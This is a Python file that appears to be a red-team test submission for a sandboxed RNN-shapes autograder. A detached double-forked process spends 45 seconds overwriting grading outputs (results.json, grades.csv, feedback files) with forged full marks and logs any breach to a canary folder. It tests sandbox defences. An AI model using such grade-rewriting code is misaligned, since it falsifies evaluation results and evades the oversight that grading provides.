"""Leave a detached process that rewrites the results after grading.

A process that outlives the grading (``setsid`` and a double fork, so that it belongs to no
one's process group or session) could rewrite otter's ``results/results.json``, the batch's
per-submission ``results.json`` (which ``rnn-shapes grade`` reads once ``otter run`` exits), and
the batch's ``grades.csv``, ``feedback/*.txt`` and ``results/*.json`` after they are written.
This submission starts one from the kernel and one from the sealed run; each tries for 45
seconds, once a second, to write full marks into all of those (the batch's own outputs only
where the harness marked the folder as fair game with ``RNN_SHAPES_ATTACK_TARGET``).

count_params and weight_shapes are implemented correctly; the rest is not.
"""

EXPECT = {"count_params": 1, "weight_shapes": 1, "extract_weights": 0, "manual_forward": 0,
          "batched_forward": 0, "sequence_forward": 0}

NAME = "detached_rewriter"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import glob  # noqa: E402
import json  # noqa: E402
import posix  # noqa: E402
import time  # noqa: E402

POINTS = {"count_params": 1, "weight_shapes": 1, "extract_weights": 1, "manual_forward": 2,
          "batched_forward": 2, "sequence_forward": 2}
FULL_MARKS = json.dumps({
    "score": sum(POINTS.values()),
    "tests": [{"name": q, "score": p, "max_score": p, "output": "All test cases passed!"} for q, p in POINTS.items()],
})


def target_dirs(max_depth=3):
    """Folders the harness marked as fair game for real writes, found by listing folders that
    the sandbox should not be able to list."""
    found = []
    roots = {"/tmp"} | ({os.path.dirname(grader_tmp())} - {"/", ""})
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if folder[len(root):].count(os.sep) >= max_depth:
                dirs[:] = []
            if "RNN_SHAPES_ATTACK_TARGET" in files:
                found.append(folder)
    return found


def write(path, text):
    def action():
        with open(path, "w") as f:
            f.write(text)
    return action


def rewrite_once():
    tmp = grader_tmp()
    for path in glob.glob(os.path.join(tmp, "tmp*", "autograder", "results", "results.json")):
        tried(f"rewrote otter's {path}", write(path, FULL_MARKS))
    for path in glob.glob(os.path.join(tmp, "rnn-shapes-grade-*", "results.json")):
        tried(f"rewrote the batch's {path}", write(path, FULL_MARKS))
    for folder in target_dirs():
        for path in glob.glob(os.path.join(folder, "grades.csv")):
            tried(f"rewrote {path}", write(path, "submission,total,status\nforged,9,graded\n"))
        for path in glob.glob(os.path.join(folder, "feedback", "*.txt")):
            tried(f"rewrote {path}", write(path, "Total: 9 / 9 points (rewritten after grading)\n"))


def detach(seconds=45):
    """A grandchild in a session of its own, whose parent is gone: it belongs to no one."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            posix._exit(0)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            rewrite_once()
            time.sleep(1)
    finally:
        posix._exit(0)


try:
    detach()
except OSError:
    pass


def count_params(T, D, M, K):
    rnn = D * M + M * M + M
    dense = M * K + K
    return int(rnn + dense)


def weight_shapes(D, M, K):
    return [(D, M), (M, M), (M,), (M, K), (K,)]


def extract_weights(model):
    raise NotImplementedError


def manual_forward(X, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def batched_forward(X, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def sequence_forward(X, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


finish()
